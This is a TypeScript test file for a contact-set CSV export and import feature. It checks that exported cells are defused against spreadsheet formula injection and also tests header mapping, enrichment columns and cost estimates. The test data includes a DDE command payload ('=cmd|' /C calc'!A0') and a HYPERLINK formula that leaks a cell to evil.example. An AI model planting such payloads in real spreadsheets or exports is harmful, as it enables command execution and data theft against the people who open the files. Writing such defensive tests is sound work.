import { test } from '@japa/runner'
import fc from 'fast-check'
import { toCsv } from '#domain/sets/export_csv'
import { rowOfCsv } from '#domain/sets/import_rows'
import { enrichmentColumn } from '#domain/sets/enrichment_column'
import { affordable, maximumOf } from '#domain/sets/estimate'
import { csvRows } from '#app/imports/csv'

async function* lines(csv: string) {
  for (const [i, text] of csv
    .replace(/^\uFEFF/, '')
    .split(/\r\n|\n|\r/)
    .entries())
    yield { line: i + 1, text }
}

/** Starts of formulas according to spreadsheets and their documentation. */
const OPENS = /^[\s\p{Cc}\p{Cf}"]*[=+\-@＝＋－＠]/u
const PLAIN = /^-?\d+(\.\d+)?$/

test.group('sets: files', () => {
  for (const [value, written] of [
    ['=1+1', "'=1+1"],
    ['+1-2', "'+1-2"],
    ['-cmd', "'-cmd"],
    ['@SUM(A1)', "'@SUM(A1)"],
    ['  =1+1', "'  =1+1"],
    ['＝1+1', "'＝1+1"],
    ['＋1', "'＋1"],
    ['－1', "'－1"],
    ['＠SUM(A1)', "'＠SUM(A1)"],
    ['\u00a0=1+1', "'\u00a0=1+1"],
    ['\u200b=1+1', "'\u200b=1+1"],
    ['\ufeff=1+1', "'\ufeff=1+1"],
    ['\u0001=1+1', "'\u0001=1+1"],
    ['"=1+1', '\'"=1+1'],
    ['\t1', "'\t1"],
    ["=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"],
    ['=HYPERLINK("https://evil.example?"&A1,"x")', '\'=HYPERLINK("https://evil.example?"&A1,"x")'],
    ['a;=1+1', "a;'=1+1"],
    ['a\t@SUM(A1)', "a\t'@SUM(A1)"],
    ['a\n +1', "a\n' +1"],
    ['a|-cmd', "a|'-cmd"],
    ['a\r\n=1', "a\r'\n'=1"],
    ['a; b - c', 'a; b - c'],
    ['-12.5', '-12.5'],
    ['Ann', 'Ann'],
    ['ann@acme.example', 'ann@acme.example'],
    [-3, '-3'],
    [null, ''],
    [true, 'true'],
  ] as const)
    test(`[SE-027] ${JSON.stringify(value)} is written as ${JSON.stringify(written)}`, ({ assert }) => {
      const file = toCsv(['value'], [[value]])
      const row = file.slice('\uFEFFvalue\r\n'.length, -'\r\n'.length)
      assert.equal(row.startsWith('"') ? row.slice(1, -1).replaceAll('""', '"') : row, written)
    })

  test('[SE-027] no cell starts a formula, and reading returns the written values, for any values', async ({
    assert,
  }) => {
    const value = fc.string({ unit: 'grapheme', minLength: 1, maxLength: 12 })
    const opening = fc.constantFrom('=', '+', '-', '@', '＝', '\u200b=', '\t', '"', ',', ';=', '|@', '\n', '')
    const hostile = fc.tuple(opening, value, opening, value)
    await fc.assert(
      fc.asyncProperty(
        fc.array(fc.tuple(hostile, hostile), { minLength: 1, maxLength: 5 }),
        async (drawn) => {
          const rows = drawn.map((row) =>
            row.map((parts) => parts.join('').replace(/[\0\r\n\u2028\u2029]/g, ' '))
          )
          const read: Record<string, string>[] = []
          for await (const row of csvRows(lines(toCsv(['a', 'b'], rows))))
            read.push(('value' in row ? row.value : {}) as Record<string, string>)
          assert.lengthOf(read, rows.length)
          for (const [i, { a, b }] of read.entries())
            for (const [j, cell] of [a, b].entries()) {
              // All characters remain, and only apostrophes are added.
              assert.equal(cell.replaceAll("'", ''), rows[i][j].replaceAll("'", ''))
              for (const part of cell.split(/[;|\t]/))
                assert.isTrue(!OPENS.test(part) || PLAIN.test(cell), JSON.stringify(cell))
            }
        }
      )
    )
  })

  test('reads spreadsheet rows by headers and by values', ({ assert }) => {
    const row = {
      'First Name': 'Ann',
      Surname: 'Lee',
      Organisation: 'Acme',
      'E-mail': 'ann@acme.example',
      Link: 'https://www.linkedin.com/in/ann-lee',
      Score: '7',
      Empty: ' ',
    }
    assert.deepEqual(rowOfCsv(row), {
      name: 'Ann Lee',
      company: 'Acme',
      email: 'ann@acme.example',
      pronet_url: 'https://www.linkedin.com/in/ann-lee',
      extra: { Score: '7' },
    })
    assert.deepEqual(
      rowOfCsv({
        Name: 'Ann',
        Website: 'n/a',
        'Company LinkedIn': 'https://www.linkedin.com/company/acme',
        Post: 'https://www.linkedin.com/posts/ann_1',
        Pronet: 'ann-lee',
      }),
      {
        name: 'Ann',
        pronet_url: 'https://www.linkedin.com/in/ann-lee',
        extra: {
          Website: 'n/a',
          'Company LinkedIn': 'https://www.linkedin.com/company/acme',
          Post: 'https://www.linkedin.com/posts/ann_1',
        },
      }
    )
    assert.deepEqual(rowOfCsv({ Name: 'Ann', Handle: 'https://github.com/ann' }), {
      name: 'Ann',
      socials: { codehost: 'https://github.com/ann' },
    })
  })

  for (const [description, format, key] of [
    ['Work email', undefined, 'email.work'],
    ['work e-mail address', 'email', 'email.work'],
    ['their phone number', 'phone', 'phone'],
    ['Current title', 'text', 'title'],
    ['Work email', 'boolean', 'custom.enr_1'],
    ['The school the person attended', 'text', 'custom.enr_1'],
    ['email of the assistant', 'email', 'custom.enr_1'],
  ] as const)
    test(`[SE-021] ${description} (${format}) is the column ${key}`, ({ assert }) =>
      assert.equal(enrichmentColumn('enr_1', description, format).key, key))

  test('[OP-021] computes the maximum cost, and how many people a budget covers', ({ assert }) => {
    const prices = { sets: 2, set_fields: 3 }
    assert.equal(maximumOf({ people: 4, values: 8 }, prices), 32)
    assert.equal(affordable(20, 2, prices), 2)
    assert.equal(affordable(null, 2, prices), Number.POSITIVE_INFINITY)
    assert.equal(affordable(0, 2, { sets: 0, set_fields: 0 }), Number.POSITIVE_INFINITY)
  })
})
